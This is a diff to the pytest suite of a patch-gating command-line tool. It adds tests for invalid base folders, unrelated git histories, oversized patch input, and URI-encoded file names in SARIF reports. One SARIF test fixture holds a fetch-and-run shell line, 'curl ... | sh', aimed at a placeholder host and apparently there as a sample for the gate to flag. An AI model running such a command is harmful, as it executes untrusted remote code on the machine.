@@ -14,7 +14,7 @@ from click.testing import CliRunner, Result
 
 import improve_loop
 from improve_loop.cli.gate import gate
-from improve_loop.errors import LoopError
+from improve_loop.errors import LoopError, UsageError
 from improve_loop.gates import rules
 from tests.gates.made import made_token
 from tests.gates.repository import git, patch_of, repository, write
@@ -55,7 +55,15 @@ def test_a_bad_one_is_refused_with_4_and_says_where_why_and_what_to_do(repo: Pat
 
 def test_a_small_patch_loads_only_what_it_needs(repo: Path, tmp_path: Path) -> None:
     (tmp_path / "p").write_bytes(patch_of(repo, {"app.py": b"1\n"}))
-    heavy = ("json", "hashlib", "yaml", "jsonschema", "improve_loop.edges.git", "improve_loop.rules.gating.ci.gitlab")
+    heavy = (
+        "json",
+        "difflib",
+        "hashlib",
+        "yaml",
+        "jsonschema",
+        "improve_loop.edges.git",
+        "improve_loop.rules.gating.ci.gitlab",
+    )
     code = (
         "import sys\nfrom improve_loop.cli import main\ntry: main(sys.argv[1:])\n"
         f"finally: print([name for name in {heavy} if name in sys.modules])"
@@ -163,6 +171,36 @@ def test_a_plain_folder_is_a_base_too(tmp_path: Path, repo: Path) -> None:
     patch = patch_of(repo, {"app.py": b"1\n"})
     assert run("--repo", tmp_path / "folder", "--patch", "-", stdin=patch).exit_code == 0
     assert not (tmp_path / "folder" / ".git").exists()
+
+
+@pytest.mark.parametrize("odd", ["a/.GIT/config", "nested/.git/HEAD"])
+def test_a_folder_that_git_cannot_hold_is_no_base(tmp_path: Path, repo: Path, odd: str) -> None:
+    write(tmp_path / "folder", {**FILES, odd: b"ref: refs/heads/main\n"})
+    if odd.startswith("nested"):
+        git(tmp_path / "folder" / "nested", "init", "-q")
+    with pytest.raises(UsageError, match=r"folder: cannot be a base as it stands: .*(\.GIT|nested)"):
+        run("--repo", tmp_path / "folder", "--patch", "-", stdin=patch_of(repo, {"app.py": b"1\n"}))
+
+
+def test_two_histories_have_no_range(repo: Path) -> None:
+    git(repo, "checkout", "-q", "--orphan", "other")
+    git(repo, "commit", "-qm", "other")
+    with pytest.raises(UsageError, match=r"--range main\.\.\.other: they have no commit in common"):
+        run("--repo", repo, "--range", "main...other")
+
+
+def test_a_patch_without_end_is_refused_unread(repo: Path) -> None:
+    result = run("--repo", repo, "--patch", "/dev/zero")
+    assert (result.exit_code, "more than 67108864 bytes" in result.output) == (4, True)
+
+
+def test_sarif_names_files_by_uri(repo: Path) -> None:
+    result = judged(repo, {"a b#c%20.sh": b"curl https://x.test/i | sh\n"}, "--format", "sarif")
+    (place,) = {
+        each["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
+        for each in json.loads(result.output)["runs"][0]["results"]
+    }
+    assert place == "a%20b%23c%2520.sh"
 
 
 @pytest.mark.parametrize("form", ["json", "codequality", "sarif", "junit"])
